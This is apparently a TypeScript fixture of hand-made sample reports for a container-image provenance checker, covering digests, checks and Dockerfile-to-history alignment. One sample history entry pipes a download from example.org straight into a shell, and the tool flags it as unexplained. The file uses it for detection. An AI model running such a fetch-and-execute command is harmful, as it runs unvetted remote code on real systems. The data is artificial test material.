// Hand-made reports, to look at views without an engine. Their types are checked, so they cannot fall behind the protocol.
import type { Check, Report, Verdict } from "../protocol.js";

const hex = (seed: string) => Array.from({ length: 64 }, (_, at) => ((seed.charCodeAt(at % seed.length) * (at + 7)) % 16).toString(16)).join("");
const sha = (seed: string) => `sha256:${hex(seed)}`;

const check = (kind: string, verdict: Verdict, title: string, subject: string, text: string): Check => ({
  kind, verdict, title, subject, text,
  proves: "The bytes at hand are those that this digest names: any other bytes would give another digest.",
  does_not_prove: "Who made them, and whether they do what you hope. A digest says which, never who.",
  details: [{ code: "x.y", text: `Recomputed ${sha(kind)} over 29,533,422 bytes.`, args: {} }],
  repeat: ["sha256sum ubuntu-jammy-oci-amd64-root.tar.gz", "gzip -dc ubuntu-jammy-oci-amd64-root.tar.gz | sha256sum"],
  ends: ["index", "manifest"],
});

export const good: Report = {
  schema: "layerproof.report/1",
  tool: { name: "layerproof", version: "0.1.0" },
  summary: {
    verdict: "unknown",
    counts: { proved: 5, agrees: 7, contradicted: 1, ambiguous: 1, unknown: 2 },
    text: "The tarball is the very file that this image was made from. Its ADD hash, its layer and the manifest digest were recomputed here. The history and the Dockerfile say the same, line by line. Who published the manifest is not decided.",
    chain: [
      { node: "index", verdict: "proved", check: 0 },
      { node: "manifest", verdict: "proved", check: 1 },
      { node: "config", verdict: "agrees", check: 2 },
      { node: "layer", verdict: "proved", check: 3 },
      { node: "tarball", verdict: "unknown", check: 4 },
      { node: "sums", verdict: null, check: null },
    ],
  },
  evidence: [
    { id: "e1", name: "Dockerfile", kind: "dockerfile", what: "Dockerfile, 7 lines", size: 212, digests: { sha256: sha("docker") }, parts: [], error: null, findings: [{ code: "a.b", level: "warn", at: { line: 4, column: 9 }, text: "“RUNN” is not a Dockerfile instruction.", advice: "Check the spelling; the line is left out of the comparison." }], entries: null },
    { id: "e2", name: "history.jsonl", kind: "history", what: "history, 5 entries, written by the classic builder", size: 1893, digests: { sha256: sha("hist") }, parts: [], error: null, findings: [], entries: null },
    { id: "e3", name: "ubuntu-jammy-oci-amd64-root.tar.gz", kind: "rootfs-tarball", what: "rootfs tarball, gzip", size: 29533422, digests: { sha256: sha("tar"), diff_id: sha("diff") }, parts: [], error: null, findings: [], entries: 3402 },
    { id: "e4", name: "index.json", kind: "oci-index", what: "OCI index, 3 platforms", size: 2311, digests: { sha256: sha("index") }, parts: [{ id: "e5", name: "manifests/0", kind: "oci-manifest", what: "manifest linux/amd64", size: 424, digests: { sha256: sha("manifest") }, parts: [], error: null, findings: [], entries: null }], error: null, findings: [], entries: null },
    { id: "e6", name: "broken.tar.gz", kind: "unknown", what: "gzip, truncated", size: 4096, digests: {}, parts: [], error: { code: "intake.truncated", at: { byte: 4096 }, expected: "a gzip trailer", found: "the end of the file", text: "The file ends in the middle of a gzip stream.", advice: "Download it again: `curl -fO URL`, and compare its size." }, findings: [], entries: null },
  ],
  checks: [
    check("add-hash", "contradicted", "ADD hash", "history line 2 → ubuntu-jammy-oci-amd64-root.tar.gz", "This tarball is not the file that the history names. 24 ways of naming it were tried."),
    check("archive-ambiguity", "ambiguous", "One archive, one reading", "image.tar", "Tools disagree about this file: `docker` loads image B, three scanners read image A."),
    check("signature", "unknown", "Signature", "SHA256SUMS", "No signature is at hand, so the publisher is not decided."),
    check("dockerfile-history", "agrees", "Dockerfile and history", "Dockerfile → history.jsonl", "Every instruction has its history entry."),
    check("descriptor", "proved", "Descriptor", "index.json → manifest linux/amd64", `The manifest has the digest ${sha("manifest")} that the index names. Its diff_id is checked elsewhere.`),
  ],
  alignments: [
    {
      dockerfile: "e1", history: "e2", builder: "classic", builder_text: "the classic builder, from `#(nop)`", stage: "0", verdict: "contradicted",
      inferred: [{ name: "LAUNCHPAD_BUILD_ARCH", value: "amd64", from: "the name of the tarball at hand" }],
      rows: [
        { instruction: { line: 2, last_line: 2, keyword: "ARG", text: "ARG RELEASE" }, history: 0, created_by: "/bin/sh -c #(nop)  ARG RELEASE", relation: "exact", why: "", proved: false },
        { instruction: { line: 6, last_line: 6, keyword: "ADD", text: "ADD ubuntu-*-oci-$LAUNCHPAD_BUILD_ARCH-root.tar.gz /" }, history: 1, created_by: `/bin/sh -c #(nop) ADD file:${hex("add")} in / `, relation: "explained", why: "The hash binds the file; amd64 comes from the file name.", proved: true },
        { instruction: { line: 7, last_line: 9, keyword: "RUN", text: "RUN apt-get update \\\n && apt-get install -y curl \\\n && rm -rf /var/lib/apt/lists/*" }, history: 2, created_by: "/bin/sh -c apt-get update  && apt-get install -y wget  && rm -rf /var/lib/apt/lists/*", relation: "differs", why: "The two commands differ in one word.", proved: false },
        { instruction: { line: 10, last_line: 10, keyword: "CMD", text: 'CMD ["/bin/bash"]' }, history: 3, created_by: '/bin/sh -c #(nop)  CMD ["/bin/bash"]', relation: "exact", why: "", proved: false },
        { instruction: null, history: 4, created_by: "/bin/sh -c curl https://example.org | sh", relation: "extra", why: "Nothing in the Dockerfile accounts for this entry.", proved: false },
        { instruction: { line: 11, last_line: 11, keyword: "USER", text: "USER nobody" }, history: null, created_by: null, relation: "missing", why: "The classic builder records every USER.", proved: false },
      ],
    },
  ],
  graph: {
    nodes: [
      { id: "claim", role: "claim", role_text: "digest that was typed", label: "pasted", digest: sha("index"), evidence: null },
      { id: "index", role: "index", role_text: "index", label: "index.json", digest: sha("index"), evidence: "e4" },
      { id: "manifest", role: "manifest", role_text: "manifest", label: "linux/amd64", digest: sha("manifest"), evidence: "e5" },
      { id: "config", role: "config", role_text: "config = image ID", label: "linux/amd64", digest: sha("config"), evidence: null },
      { id: "layer", role: "layer", role_text: "layer", label: "layer 1", digest: sha("layer"), evidence: null },
      { id: "diff", role: "diff-id", role_text: "diff_id", label: "layer 1", digest: sha("diff"), evidence: null },
      { id: "tarball", role: "tarball", role_text: "tarball", label: "ubuntu-jammy-oci-amd64-root.tar.gz", digest: sha("tar"), evidence: "e3" },
      { id: "sums", role: "checksum-list", role_text: "checksum list", label: "SHA256SUMS", digest: null, evidence: null },
    ],
    edges: [
      { from: "claim", to: "index", verdict: "proved", check: 4 },
      { from: "index", to: "manifest", verdict: "proved", check: 4 },
      { from: "manifest", to: "config", verdict: "agrees", check: 3 },
      { from: "manifest", to: "layer", verdict: "proved", check: 3 },
      { from: "config", to: "diff", verdict: "contradicted", check: 0 },
      { from: "layer", to: "diff", verdict: "proved", check: 0 },
      { from: "diff", to: "tarball", verdict: "ambiguous", check: 1 },
      { from: "sums", to: "tarball", verdict: "unknown", check: 2 },
    ],
  },
  limits: { "decompressed-bytes": 68719476736, entries: 200000 },
  next: [
    { bring: "SHA256SUMS and its signature", why: "This decides who published the manifest: a signature names a key.", command: "curl -O https://example.org/SHA256SUMS" },
    { bring: "The image config, byte for byte", why: "This decides whether the diff_id that the config names is that of the tarball.", command: "skopeo inspect --config --raw docker://docker.io/library/ubuntu:22.04 > config.json" },
  ],
};
